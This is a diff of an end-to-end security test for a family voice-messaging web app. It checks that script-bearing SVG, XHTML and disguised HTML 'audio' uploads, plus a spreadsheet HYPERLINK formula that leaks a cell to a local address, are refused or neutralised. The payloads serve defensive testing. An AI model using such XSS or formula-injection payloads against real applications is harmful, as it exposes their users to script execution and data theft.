@@ -29,8 +29,9 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { addChild } from '../../src/client/children.js';
 import { admitJoiners, createFamily, loadFamily } from '../../src/client/families.js';
 import { acceptInvite, createInvite } from '../../src/client/invites.js';
-import { sendMessage } from '../../src/client/messages.js';
+import { sendMessage, uploadEnvelope } from '../../src/client/messages.js';
 import { toBase64Url } from '../../src/crypto/bytes.js';
+import { sealMessage } from '../../src/crypto/envelope.js';
 import { sealProfile } from '../../src/crypto/profile.js';
 import { registerMember, wavWith, type TestMember } from '../e2e/family-harness.js';
 import { openTab, pairToy, showToyCode } from './support/app-steps.js';
@@ -69,7 +70,7 @@ const HOSTILE: Array<{ tag: string; audioType: string; body: string }> = [
   { tag: 'svg', audioType: 'image/svg+xml', body: `<svg xmlns="http://www.w3.org/2000/svg" onload="${payload('svg')}"><script>${payload('svg-script')}</script></svg>` },
   { tag: 'xhtml', audioType: 'application/xhtml+xml', body: `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${payload('xhtml')}</script></body></html>` },
   // Allowed type, hostile bytes: the Blob is audio/webm, which the browser never renders as a page.
-  { tag: 'disguised', audioType: 'audio/webm;codecs=opus', body: `<!doctype html><script>${payload('disguised')}</script>` },
+  { tag: 'disguised', audioType: 'audio/ogg', body: `<!doctype html><script>${payload('disguised')}</script>` },
 ];
 const FORMULA = '=HYPERLINK("http://127.0.0.1:9/?leak="&A1,"Click for the photos")';
 
@@ -85,6 +86,21 @@ let formulaId: string;
 const calledHome: string[] = [];
 const contexts: BrowserContext[] = [];
 
+/**
+ * What a hostile member does: seal with her own keys and upload, past the client library's format
+ * check (which refuses to seal anything but Ogg/Opus or 16-bit PCM WAV), as any program could.
+ */
+async function sealPastTheClient(member: TestMember, options: { audio: Uint8Array; audioType: string }): Promise<string> {
+  const family = await loadFamily(member, familyId);
+  const sealed = await sealMessage({
+    familyId, epoch: family.roster.epoch, rosterHead: family.roster.headHash, familyKey: family.headKey, sender: member.me,
+    recipients: [mia], audio: options.audio, audioType: options.audioType, durationMs: 1000, createdAt: Date.now(),
+  });
+  const messageId = toBase64Url(sealed.header.messageId);
+  await uploadEnvelope(member, { familyId, envelope: sealed.bytes, messageId });
+  return messageId;
+}
+
 beforeAll(async () => {
   dir = await mkdtemp(join(tmpdir(), 'burrow-web-malicious-'));
   const mic = await writeFakeVoice(fakeVoice({ pitchHz: 220, syllablesPerSecond: 4, peak: 0.4 }), join(dir, 'mic.wav'));
@@ -99,8 +115,7 @@ beforeAll(async () => {
   await admitJoiners(mum, { familyId });
   await loadFamily(eve, familyId);
   for (const hostile of HOSTILE) {
-    const sent = await sendMessage(eve, { familyId, to: mia, audio: new TextEncoder().encode(hostile.body), audioType: hostile.audioType, durationMs: 1000 });
-    hostileIds.set(hostile.tag, sent.messageId);
+    hostileIds.set(hostile.tag, await sealPastTheClient(eve, { audio: new TextEncoder().encode(hostile.body), audioType: hostile.audioType }));
   }
   formulaId = (await sendMessage(eve, { familyId, to: mia, audio: wavWith(new Uint8Array(8)), audioType: 'audio/wav', durationMs: 500, caption: FORMULA })).messageId;
 }, 120_000);
@@ -162,19 +177,14 @@ describe.skipIf(!hasChromium())('a malicious family member against the web app',
     }
     expect(refusedInWords).toBeGreaterThan(0);
 
-    // The conversation: each hostile message, when opened, is refused in plain words; the
-    // disguised one (an allowed type) gets an <audio> that cannot decode it.
+    // The conversation: each hostile message, when opened, is refused in plain words, the
+    // disguised one too (an allowed type, but its bytes are no Ogg/Opus).
     await page.goto(`/family/${familyId}/talk/${mia}`);
     for (const hostile of HOSTILE) {
       const item = page.locator(`li[data-message="${hostileIds.get(hostile.tag)!}"]`);
       await item.getByRole('button', { name: 'Play the message' }).click({ timeout: STEP });
-      if (hostile.tag === 'disguised') {
-        await item.getByTestId('message-audio').waitFor({ timeout: STEP });
-        expect(await item.getByTestId('message-audio').getAttribute('src')).toMatch(/^blob:/);
-      } else {
-        await item.getByText('This message is not in an audio format Burrow plays').waitFor({ timeout: STEP });
-        expect(await item.locator('audio').count()).toBe(0);
-      }
+      await item.getByText('This message is not in an audio format Burrow plays').waitFor({ timeout: STEP });
+      expect(await item.locator('audio').count()).toBe(0);
     }
     const formula = page.locator(`li[data-message="${formulaId}"]`);
     await formula.getByRole('button', { name: 'Play the message' }).click();
@@ -183,7 +193,7 @@ describe.skipIf(!hasChromium())('a malicious family member against the web app',
     // Every address the app made from a message has an allow-listed audio type; each one, and
     // every <audio> element's address, opened in a tab of its own ("open in new tab") runs nothing.
     const audioBlobs = await blobsMade(page);
-    expect(audioBlobs.map((b) => b.type).sort()).toEqual(['audio/wav', 'audio/webm']);
+    expect(audioBlobs.map((b) => b.type).sort()).toEqual(['audio/wav']);
     const sources = await page.locator('audio').evaluateAll((elements) => elements.map((el) => (el as HTMLAudioElement).src));
     for (const url of new Set([...audioBlobs.map((b) => b.url), ...sources])) {
       const tab = await context.newPage();
@@ -199,12 +209,13 @@ describe.skipIf(!hasChromium())('a malicious family member against the web app',
     const [download] = await Promise.all([page.waitForEvent('download', { timeout: STEP }), page.getByRole('button', { name: 'Download everything' }).click()]);
     const zip = unzipSync(new Uint8Array(await readFile((await download.path())!)));
     const index = JSON.parse(strFromU8(zip['index.json']!)) as { messages: Array<{ messageId: string; file: string | null; status: string; caption: string | null }> };
-    for (const name of Object.keys(zip)) expect(name).toMatch(/^(index\.(json|csv)|audio\/[\w-]+\.(webm|ogg|m4a|aac|mp3|wav))$/);
+    for (const name of Object.keys(zip)) expect(name).toMatch(/^(index\.(json|csv)|audio\/[\w-]+\.(ogg|wav))$/);
     for (const hostile of HOSTILE.filter((h) => h.tag !== 'disguised')) {
       const row = index.messages.find((m) => m.messageId === hostileIds.get(hostile.tag))!;
       expect(row).toMatchObject({ file: null, status: 'refused: not an audio format Burrow plays' });
     }
-    expect(index.messages.find((m) => m.messageId === hostileIds.get('disguised'))!.file).toMatch(/\.webm$/);
+    // The disguised one is saved as the .ogg its type names (the zip's bytes open nowhere as a page).
+    expect(index.messages.find((m) => m.messageId === hostileIds.get('disguised'))!.file).toMatch(/\.ogg$/);
     // The caption reaches index.csv as text: a spreadsheet shows it, it does not evaluate it.
     const csv = strFromU8(zip['index.csv']!);
     expect(csv).toContain(`"'${FORMULA.replace(/"/g, '""')}"`);
